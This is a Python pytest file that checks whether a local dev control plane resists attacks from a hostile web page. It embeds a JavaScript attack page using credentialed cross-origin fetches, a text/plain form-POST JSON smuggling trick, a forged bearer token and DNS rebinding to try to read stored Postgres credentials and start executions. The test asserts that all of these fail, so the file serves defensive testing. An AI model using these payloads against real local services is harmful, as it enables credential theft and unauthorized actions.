"""A page in Chromium attacks a running `dev`.

Part of `make pages`, and of the night.
"""

from __future__ import annotations

import socket
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from urllib.parse import urlsplit

import pytest
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.types import Receive, Scope, Send

from noetl_worker.authoring.dev.live_page import live_page
from noetl_worker.authoring.dev.plane import DevControlPlane, DevServer
from noetl_worker.authoring.dev.settings import PlaneSettings
from patience import until
from run_page.told_plane import CHROMIUM
from run_page.watched_plane import PLAYBOOK

async_api = pytest.importorskip("playwright.async_api", reason="playwright is not installed: pip install --group pages")
pytestmark = [pytest.mark.pages, pytest.mark.skipif(CHROMIUM is None, reason="no Chromium: apt-get install chromium")]

EVIL = "evil.example"
SECRET = "hush-44-of-pg"
ATTACKS = """<!doctype html><title>evil</title><iframe name="answer"></iframe>
<form id="form" method="post" enctype="text/plain" target="answer"><input name='{"path": "p", "x": "' value='"}'></form>
<script>
const planes = PLANES, told = new Set();
async function asked(url, options) {
  told.add(await fetch(url, { credentials: 'include', ...options }).then((answer) => answer.type, () => 'refused'));
}
function loaded(tag, url) {
  const one = document.createElement(tag);
  return new Promise((done) => {
    one.onload = one.onerror = done;
    one.src = url;
    document.body.append(one);
  });
}
function posted(url) {
  const form = document.getElementById('form');
  form.action = url;
  form.submit();
  return new Promise((done) => { document.querySelector('iframe').onload = done; });
}
async function attack() {
  document.cookie = 'token=guessed; path=/';
  for (const plane of planes) {
    for (const mode of ['cors', 'no-cors']) {
      await asked(`${plane}/api/execute`, { method: 'POST', mode, body: '{"path": "p"}' });
      await asked(`${plane}/api/credentials/pg?include_data=true`, { mode });
    }
    await asked(`${plane}/api/worker/pools`, { headers: { authorization: 'Bearer guessed' } });
    for (const tag of ['img', 'script', 'iframe']) await loaded(tag, `${plane}/api/catalog/list`);
    await posted(`${plane}/api/execute`);
  }
  await fetch('/told', { method: 'POST', body: [...told].sort().join() });
}
attack();
</script>"""


class EvilServer:
    """The server of the page, under a name that leads to this machine."""

    def __init__(self, planes: list[str]) -> None:
        self._page = ATTACKS.replace("PLANES", str(planes))
        self.told: list[str] = []

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        request = Request(scope, receive)
        if request.url.path == "/told":
            self.told.append((await request.body()).decode())
        await (HTMLResponse(self._page) if request.url.path == "/" else Response())(scope, receive, send)


@asynccontextmanager
async def served(evil: EvilServer) -> AsyncIterator[str]:
    """The address of the page."""
    listener = socket.create_server(("127.0.0.1", 0))
    server = DevServer(evil)
    await server.begin(listener)
    try:
        yield f"http://{EVIL}:{listener.getsockname()[1]}/"
    finally:
        await server.end()


async def test_page_of_a_stranger_runs_and_reads_nothing() -> None:
    """A page posts forms, fetches with cookies, and has its name lead to 127.0.0.1 (DNS rebinding).

    A tab beside it shows the live page, whose address has the token of the pages.
    """
    async with (
        DevControlPlane(PlaneSettings(token="t" * 43)) as plane,
        live_page(plane) as address,
        async_api.async_playwright() as playwright,
    ):
        plane.credentials.write({"name": "pg", "type": "postgres", "data": {"password": SECRET}})
        plane.register_playbook(PLAYBOOK)
        first = await plane.execute("p")
        port, page_port = urlsplit(plane.url).port, urlsplit(address).port
        names = ("127.0.0.1", "localhost", EVIL)
        evil = EvilServer([f"http://{name}:{one}" for name in names for one in (port, page_port)])
        browser = await playwright.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", f"--host-resolver-rules=MAP {EVIL} 127.0.0.1"]
        )
        try:
            context = await browser.new_context()
            await (await context.new_page()).goto(address)
            before = plane.requests.copy()
            attacked = await context.new_page()
            async with served(evil) as page:
                await attacked.goto(page)
                await until(lambda: bool(evil.told), "the end of the attacks")
            asked = plane.requests - before
            rebound = await attacked.goto(f"http://{EVIL}:{port}/api/credentials/pg?include_data=true")
            typed = await attacked.goto(f"{plane.url}/api/credentials/pg?include_data=true")
            assert [answer.status for answer in (rebound, typed) if answer] == [403, 401]
            assert SECRET not in await attacked.content()
        finally:
            await browser.close()
        assert evil.told == ["opaque,refused"], "no answer can be read"
        assert [one.execution_id for one in plane.executions.all()] == [first]
        assert [name for name in asked if "/api/executions/" not in name] == [], "the live page asks, and nobody else"
